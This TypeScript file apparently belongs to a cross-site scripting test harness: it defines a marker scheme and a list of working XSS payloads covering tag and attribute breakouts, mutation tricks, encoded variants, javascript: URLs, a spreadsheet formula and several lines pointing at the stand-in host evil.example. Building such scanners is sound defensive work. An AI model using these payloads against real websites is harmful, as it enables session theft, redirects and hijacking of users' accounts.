/** A word that nobody writes: it names the field it was put into and which payload it came with. */
export const markOf = (field: number, payload: number): string => `zq${field}p${payload}z`
export const MARK = /zq(\d+)p(\d+)z/g

/**
 * What runs, or is drawn as an element, wherever it is not treated as text: between tags, inside either sort of quote,
 * in a title, a textarea, a style, a comment, a script, a link, a template, or after being decoded once too often.
 * Each carries an element or an attribute named by its mark, so that a browser that took it for markup can be asked.
 */
export const PAYLOADS: readonly ((mark: string) => string)[] = [
  (m) => `<${m}>`,
  (m) => `<script>alert('${m}')</script>`,
  (m) => `<img src=x onerror=alert('${m}') ${m}>`,
  (m) => `"><svg onload=alert('${m}') ${m}>`,
  (m) => `'><${m} onclick=alert(1)>`,
  (m) => `" autofocus onfocus=alert('${m}') ${m}="`,
  (m) => `' onmouseover='alert(1)' ${m}='`,
  (m) => `</title><script>alert('${m}')</script><${m}>`,
  (m) => `</textarea><img src=x onerror=alert('${m}')><${m}>`,
  (m) => `</script><script>alert('${m}')</script><${m}>`,
  (m) => `</style><style>@import '//evil.example/${m}'</style><${m}>`,
  (m) => `--><img src=x onerror=alert('${m}')><${m}><!--`,
  (m) => `]]><script>alert('${m}')</script><${m}>`,
  (m) => `<iframe srcdoc="<script>alert('${m}')</script>"></iframe><${m}>`,
  (m) => `<math><mtext><table><mglyph><style><img src=x onerror=alert('${m}')><${m}>`,
  (m) => `<a href="javascript:alert('${m}')">${m}</a>`,
  (m) => `javascript:alert('${m}')`,
  (m) => `data:text/html,<script>alert('${m}')</script>`,
  (m) => `&lt;${m}&gt;&lt;img src=x onerror=alert('${m}')&gt;`,
  (m) => `&#60;${m}&#62;&#x3C;img src=x onerror=alert(1)&#x3E;`,
  (m) => `%3C${m}%3E%3Cscript%3Ealert('${m}')%3C/script%3E`,
  (m) => `\u003c${m}\u003e{{constructor.constructor('alert("${m}")')()}}`,
  (m) => `<base href=//evil.example/${m}><meta http-equiv=refresh content=0;url=//evil.example><${m}>`,
  (m) => `<form action=//evil.example><button formaction=javascript:alert('${m}')><${m}>`,
  (m) => `=HYPERLINK("javascript:alert('${m}')","<${m}>")`,
]
